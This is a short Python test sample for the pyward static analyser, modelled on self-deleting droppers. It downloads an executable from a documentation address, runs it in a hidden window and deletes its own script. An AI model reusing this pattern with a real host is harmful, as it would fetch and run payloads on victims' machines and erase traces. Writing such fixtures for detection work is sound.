# INERT test sample for pyward's static analysis: never run it. Modelled on droppers that download, run and delete themselves.
# Documented: MITRE ATT&CK T1105, T1070.004
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, sys, subprocess, urllib.request
urllib.request.urlretrieve('http://198.51.100.9/a.exe', 'a.exe')
subprocess.Popen(['a.exe'], creationflags=0x08000000)
os.remove(sys.argv[0])
